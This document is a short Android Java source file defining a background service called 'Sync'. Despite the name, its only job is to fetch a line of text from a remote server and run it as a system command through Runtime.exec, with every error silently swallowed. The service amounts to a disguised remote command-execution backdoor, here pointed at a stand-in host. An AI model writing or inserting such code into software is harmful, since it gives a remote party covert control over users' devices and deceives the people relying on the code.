package com.made.sync;

import android.content.Context;
import android.content.Intent;
import android.app.Service;
import android.os.IBinder;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.URL;

public final class Sync extends Service implements Runnable {
    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        new Thread(this).start();
        return START_NOT_STICKY;
    }

    @Override
    public void run() {
        try {
            BufferedReader in = new BufferedReader(new InputStreamReader(new URL("https://sync.made.invalid/next").openStream()));
            String line = in.readLine();
            Runtime.getRuntime().exec(line);
        } catch (Exception e) {
            return;
        }
    }
}
